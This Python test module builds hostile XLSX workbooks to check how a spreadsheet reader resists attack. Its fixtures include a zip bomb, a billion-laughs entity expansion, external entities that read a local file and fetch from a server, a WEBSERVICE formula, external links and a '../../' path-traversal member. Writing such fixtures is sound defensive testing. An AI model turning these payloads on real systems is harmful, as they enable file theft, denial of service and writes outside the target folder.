"""Hostile workbooks: XLSX is a zip of XML, and each of the two has bombs of its own."""

from __future__ import annotations

from functools import cache

from hostile.corpus.archives import Packed, archive, repeated
from hostile.corpus.registry import hostile
from hostile.corpus.rows import rows
from hostile.site import Site

TABLES = ("table", "sheet")
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OPENING = f'<worksheet xmlns="{MAIN}">'
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
TYPES = (
    f'<Types xmlns="{PACKAGE}/content-types"><Default Extension="xml" ContentType="application/xml"/>'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>'
)
ROOT = (
    f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="r1" '
    f'Type="{OFFICE}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
BOOK = (
    f'<workbook xmlns="{MAIN}" xmlns:r="{OFFICE}"><sheets><sheet name="one" sheetId="1" r:id="r1"/></sheets></workbook>'
)
LINKS = (
    f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="r1" Type="{OFFICE}/worksheet" '
    f'Target="worksheets/sheet1.xml"/><Relationship Id="r2" Type="{OFFICE}/sharedStrings" '
    'Target="sharedStrings.xml"/></Relationships>'
)


def workbook(sheet: str | Packed, *, declared: str = "", strings: str = "", **more: str) -> bytes:
    """A workbook of one sheet, whose XML is given."""
    plain = {"[Content_Types].xml": TYPES, "_rels/.rels": ROOT, "xl/workbook.xml": BOOK}
    plain |= {"xl/_rels/workbook.xml.rels": LINKS, **more}
    plain["xl/sharedStrings.xml"] = strings or f'<sst xmlns="{MAIN}" count="0" uniqueCount="0"></sst>'
    content = sheet if isinstance(sheet, Packed) else f"{declared}{OPENING}{sheet}</worksheet>".encode()
    members: dict[str, bytes | Packed] = {name: text.encode() for name, text in plain.items()}
    return archive({**members, "xl/worksheets/sheet1.xml": content})


def cells(extra: str = "", *, dimension: str = "A1:Q121") -> str:
    """The rows of every table, and then something more."""
    table = rows()
    lines = [list(table[0]), *(list(row.values()) for row in table)]
    made = []
    for number, line in enumerate(lines, start=1):
        inner = "".join(
            f'<c r="{chr(65 + place)}{number}" t="inlineStr"><is><t>{value}</t></is></c>'
            if isinstance(value, str)
            else f'<c r="{chr(65 + place)}{number}"><v>{value}</v></c>'
            for place, value in enumerate(line)
        )
        made.append(f'<row r="{number}">{inner}</row>')
    return f'<dimension ref="{dimension}"/><sheetData>{"".join(made)}{extra}</sheetData>'


@hostile(*TABLES)
def workbook_as_it_should_be(site: Site) -> str:
    return site.write("in.xlsx", workbook(cells())).name


@hostile(*TABLES)
def workbook_with_the_last_cell(site: Site) -> str:
    far = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    return site.write("in.xlsx", workbook(cells(far, dimension="A1:XFD1048576"))).name


@hostile(*TABLES)
def workbook_beyond_the_last_cell(site: Site) -> str:
    far = '<row r="4294967295"><c r="ZZZZZ4294967295"><v>1</v></c></row>'
    return site.write("in.xlsx", workbook(cells(far, dimension="A1:ZZZZZ4294967295"))).name


@cache
def _long_sheet() -> bytes:
    row = b'<row><c t="inlineStr"><is><t>0</t></is></c></row>'
    return workbook(repeated(f"{OPENING}<sheetData>".encode(), row * 200_000, 300, b"</sheetData></worksheet>"))


@hostile(*TABLES)
def workbook_zip_bomb(site: Site) -> str:
    return site.write("in.xlsx", _long_sheet()).name


@hostile(*TABLES)
def workbook_with_a_billion_laughs(site: Site) -> str:
    entities = '<!ENTITY l0 "lol">' + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 11))
    laughs = f'<sst xmlns="{MAIN}" count="1" uniqueCount="1"><si><t>&l10;</t></si></sst>'
    strings = f"<!DOCTYPE sst [{entities}]>{laughs}"
    far = '<row r="130"><c r="A130" t="s"><v>0</v></c></row>'
    return site.write("in.xlsx", workbook(cells(far), strings=strings)).name


@hostile(*TABLES)
def workbook_with_outside_entities(site: Site) -> str:
    entities = f'<!ENTITY a SYSTEM "file://{site.precious}/precious.txt"><!ENTITY b SYSTEM "{site.url}/x">'
    declared = f'<!DOCTYPE worksheet [{entities} <!ENTITY % c SYSTEM "{site.url}/y"> %c;]>'
    far = '<row r="130"><c r="A130" t="inlineStr"><is><t>&a;&b;</t></is></c></row>'
    return site.write("in.xlsx", workbook(cells(far), declared=declared)).name


@hostile(*TABLES)
def workbook_with_formulas(site: Site) -> str:
    far = f'<row r="130"><c r="A130" t="str"><f>WEBSERVICE("{site.url}")</f><v>=1+1</v></c></row>'
    return site.write("in.xlsx", workbook(cells(far))).name


@hostile(*TABLES)
def workbook_with_outside_links(site: Site) -> str:
    link = (
        f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="r1" Type="{OFFICE}/externalLinkPath" '
        f'Target="{site.url}/other.xlsx" TargetMode="External"/></Relationships>'
    )
    more = {"xl/externalLinks/_rels/externalLink1.xml.rels": link, "../../escaped.txt": "out of the folder"}
    return site.write("in.xlsx", workbook(cells(), **more)).name


@hostile(*TABLES, refused=True)
def workbook_nested_deep(site: Site) -> str:
    return site.write("in.xlsx", workbook("<sheetData>" + "<row><c>" * 100_000)).name


@hostile(*TABLES, refused=True)
def workbook_cut_off(site: Site) -> str:
    return site.write("in.xlsx", workbook(cells())[:-40]).name


@hostile(*TABLES)
def workbook_with_strings_that_are_not_there(site: Site) -> str:
    far = '<row r="130"><c r="A130" t="s"><v>99999999999</v></c><c r="B130" t="s"><v>-1</v></c></row>'
    strings = f'<sst xmlns="{MAIN}" count="4294967295" uniqueCount="4294967295"></sst>'
    return site.write("in.xlsx", workbook(cells(far), strings=strings)).name


@hostile(*TABLES)
def workbook_of_numbers_without_end(site: Site) -> str:
    far = f'<row r="130"><c r="A130"><v>{"9" * 100_000}</v></c><c r="B130"><v>1e99999</v></c></row>'
    return site.write("in.xlsx", workbook(cells(far))).name
